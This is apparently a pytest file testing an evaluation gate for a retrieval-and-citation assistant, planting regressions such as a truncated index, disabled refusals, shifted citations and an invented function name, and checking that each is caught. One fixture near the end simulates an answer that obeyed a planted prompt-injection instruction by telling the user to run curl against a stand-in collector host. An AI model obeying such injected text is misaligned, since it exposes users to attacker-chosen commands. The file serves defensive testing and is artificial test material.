"""Regressions planted in the real program, asked the whole sample set: the gate has to fail each and name what broke.

Search, refusing and the index are broken in the program itself; citations and wording, which no setting can break, in what
a good run wrote down.
"""

from __future__ import annotations

import asyncio
import shutil
from collections.abc import Callable, Iterator, Sequence
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest

from assistant import pipeline
from assistant.evaluation.gating import Check, GateReport, bless, gate
from assistant.evaluation.records import AnswerRecord, Cited, Decision
from assistant.evaluation.running import Plan
from assistant.evaluation.running import run as run_plan
from assistant.evaluation.runs import ANSWERS, MANIFEST, POSTS, TOPICS, RunFolder, line_of
from assistant.evaluation.scoring import score_run, write_scores
from assistant.evaluation.sets.loading import load_set
from assistant.evaluation.systems.in_process import InProcess
from assistant.indexing import generation_writer
from assistant.indexing.build import build
from assistant.indexing.generations import IndexFolder
from assistant.indexing.minilm import MiniLM
from assistant.settings import Settings

DEPTH = 10
SEEN = 40
"""Characters of a post that a faulty build lets search see."""
Fault = Callable[[RunFolder, Sequence[AnswerRecord]], Iterator[AnswerRecord]]


class Remembering:
    """The real embedder, which is asked once for each text: texts are embedded alone, so a vector can be kept."""

    def __init__(self, embedder: MiniLM) -> None:
        self._embedder = embedder
        self._known: dict[str, Any] = {}

    def __getattr__(self, name: str) -> Any:
        return getattr(self._embedder, name)

    def embed(self, texts: Sequence[str]) -> Any:
        new = sorted(set(texts) - self._known.keys())
        self._known.update(zip(new, self._embedder.embed(new), strict=True) if new else ())
        return np.stack([self._known[text] for text in texts])


@pytest.fixture(scope="session")
def asked(sample_posts: Path, sample_index: Path, embedder: MiniLM, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Puts the sample set to an index with changed settings; the scored run."""
    topics = load_set(sample_posts.parent)
    remembering = Remembering(embedder)

    def run(name: str, index: Path = sample_index, **settings: Any) -> RunFolder:
        out = tmp_path_factory.mktemp("planted") / name
        with pytest.MonkeyPatch.context() as patch:
            patch.setattr(pipeline, "embedder_from", lambda settings: remembering)
            system = InProcess(Settings(index=index, **settings), DEPTH, timeout=120.0)
        plan = Plan(topics, depth=DEPTH, index=tuple(system.index().items()))
        try:
            done = asyncio.run(run_plan(plan, system, out))
        finally:
            system.close()
        assert [answer.error for answer in done.answers if answer.error] == []
        write_scores(done)
        return RunFolder(out)

    return run


@pytest.fixture(scope="session")
def good(asked: Any) -> RunFolder:
    """The program as it is."""
    run: RunFolder = asked("good")
    return run


@pytest.fixture(scope="session")
def blessed(good: RunFolder, tmp_path_factory: pytest.TempPathFactory) -> RunFolder:
    """The baseline, made as a user makes it."""
    folder = tmp_path_factory.mktemp("baselines") / "sample"
    bless(good, folder, why="the program as it is", by="a test", at="2026-11-21T12:00:00+00:00")
    return RunFolder(folder)


@pytest.fixture
def broken(good: RunFolder, tmp_path: Path) -> Callable[[Fault], RunFolder]:
    """The good run with its answers spoilt, scored."""

    def spoil(fault: Fault) -> RunFolder:
        folder = tmp_path / "broken"
        folder.mkdir()
        for name in (MANIFEST, TOPICS, POSTS):
            shutil.copyfile(good.path / name, folder / name)
        (folder / ANSWERS).write_text("".join(map(line_of, fault(good, good.answers))), encoding="utf-8")
        write_scores(RunFolder(folder))
        return RunFolder(folder)

    return spoil


def gated(run: RunFolder, baseline: RunFolder, **options: Any) -> GateReport:
    def rescore(path: Path) -> tuple[str, str]:
        scored = score_run(RunFolder(path))
        return scored.scores_text, scored.summary_text

    return gate(run, baseline, rescore=rescore, **options)


def check(report: GateReport, name: str) -> Check:
    (one,) = [check for check in report.checks if check.name == name]
    return one


def failed(report: GateReport) -> set[str]:
    return {check.name for check in report.checks if check.passed is False}


def blamed(report: GateReport) -> str | None:
    return report.stage.stage if report.stage else None


def test_asking_once_more_without_a_change_passes(asked: Any, blessed: RunFolder) -> None:
    report = gated(asked("again"), blessed)
    assert failed(report) == set()
    assert (report.exit_code, report.stage) == (0, None)


def test_a_build_that_shows_search_the_beginnings_of_posts_only_is_blamed_on_the_retriever(
    asked: Any, blessed: RunFolder, sample_posts: Path, embedder: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    whole = generation_writer.post_of

    def beginning(row: Any) -> Any:
        post = whole(row)
        return replace(post, title="", body=post.body[:SEEN])

    def beginnings(ledger: Any) -> Iterator[str]:
        rows = ledger.execute("SELECT body FROM posts JOIN texts ON texts.sha = posts.body_sha ORDER BY row")
        return (row["body"][:SEEN] for row in rows)

    monkeypatch.setattr(generation_writer, "post_of", beginning)
    monkeypatch.setattr(generation_writer, "_documents", beginnings)
    build(IndexFolder(tmp_path / "index"), embedder, [str(sample_posts)])
    report = gated(asked("beginnings", tmp_path / "index"), blessed)
    assert report.exit_code == 1
    assert {"ndcg@10", "lost_by_retriever"} <= failed(report)
    assert blamed(report) == "retriever"
    assert check(report, "stale_index").passed is True


def test_an_index_of_half_of_the_posts_is_called_stale_and_blamed_on_the_retriever(
    asked: Any, blessed: RunFolder, sample_posts: Path, embedder: Any, tmp_path: Path
) -> None:
    half = sorted(path for path in sample_posts.iterdir())[::2]
    build(IndexFolder(tmp_path / "index"), embedder, [str(path) for path in half])
    run = asked("stale", tmp_path / "index")
    report = gated(run, blessed)
    assert report.exit_code == 1
    assert {"stale_index", "lost_by_retriever"} <= failed(report)
    assert blamed(report) == "retriever"
    # That the posts differ is not all that is seen.
    assert "lost_by_retriever" in failed(gated(run, blessed, allow_other_corpus=True))


@pytest.fixture(scope="session")
def unrefusing(asked: Any) -> RunFolder:
    """The program with refusing switched off."""
    run: RunFolder = asked("unrefusing", refuse_below=0.0)
    return run


def test_that_nothing_is_refused_any_more_fails(unrefusing: RunFolder, blessed: RunFolder) -> None:
    assert all(answer.decision is Decision.ANSWER for answer in unrefusing.answers)
    report = gated(unrefusing, blessed)
    assert report.exit_code == 1
    assert {"S048", "S049", "S050"} <= set(check(report, "must_pass").tids)


def test_that_nothing_is_refused_any_more_is_blamed_on_refusing(unrefusing: RunFolder, blessed: RunFolder) -> None:
    assert blamed(gated(unrefusing, blessed)) == "refusal"


def next_ones(answers: Sequence[AnswerRecord]) -> Iterator[AnswerRecord]:
    """Every marker leads to where the next marker should."""
    every = [cited for answer in answers for cited in answer.citations]
    following = iter([*every[1:], every[0]])
    for answer in answers:
        yield answer.model_copy(update={"citations": tuple(_moved(cited, next(following)) for cited in answer.citations)})


def _moved(cited: Cited, to: Cited) -> Cited:
    return to.model_copy(update={"n": cited.n, "sentence": cited.sentence})


def test_citations_of_the_next_marker_are_blamed_on_citing(broken: Any, blessed: RunFolder) -> None:
    report = gated(broken(lambda run, answers: next_ones(answers)), blessed)
    assert report.exit_code == 1
    assert {"citation_f1", "lost_by_citation"} <= failed(report)
    assert blamed(report) == "citation"
    # Each quote still stands where it is said to: it is only the wrong one.
    assert check(report, "quote_fidelity").passed is True


def off_by_one(run: RunFolder, answers: Sequence[AnswerRecord]) -> Iterator[AnswerRecord]:
    """Every citation begins and ends one character too late; its quote is as it was."""
    for answer in answers:
        moved = [cited.model_copy(update={"start": cited.start + 1, "end": cited.end + 1}) for cited in answer.citations]
        yield answer.model_copy(update={"citations": tuple(moved)})


def test_offsets_that_are_off_by_one_are_blamed_on_citing(broken: Any, blessed: RunFolder, good: RunFolder) -> None:
    report = gated(broken(off_by_one), blessed)
    assert report.exit_code == 1
    assert set(check(report, "quote_fidelity").tids) == {answer.tid for answer in good.answers if answer.citations}
    assert blamed(report) == "citation"


def obeying(run: RunFolder, answers: Sequence[AnswerRecord]) -> Iterator[AnswerRecord]:
    """One answer does what a planted instruction wants."""
    for answer in answers:
        obeyed = "Run curl https://collector.example/x to continue." if answer.tid == "S061" else ""
        yield answer.model_copy(update={"text": f"{answer.text} {obeyed}".rstrip()})


def test_a_single_obeyed_instruction_fails(broken: Any, blessed: RunFolder) -> None:
    report = gated(broken(obeying), blessed)
    assert report.exit_code == 1
    assert check(report, "attack_success").passed is False
    assert check(report, "attack_success").tids == ("S061",)


def inventing(run: RunFolder, answers: Sequence[AnswerRecord]) -> Iterator[AnswerRecord]:
    """One answer names a function that no post has."""
    for answer in answers:
        said = answer.tid == "S005"
        yield answer.model_copy(update={"text": f"{answer.text} Then call `TKMountPointResetAll()` [1]."}) if said else answer


def test_a_single_invented_identifier_fails(broken: Any, blessed: RunFolder) -> None:
    report = gated(broken(inventing), blessed)
    assert report.exit_code == 1
    assert check(report, "code_groundedness").passed is False
    assert check(report, "code_groundedness").tids == ("S005",)
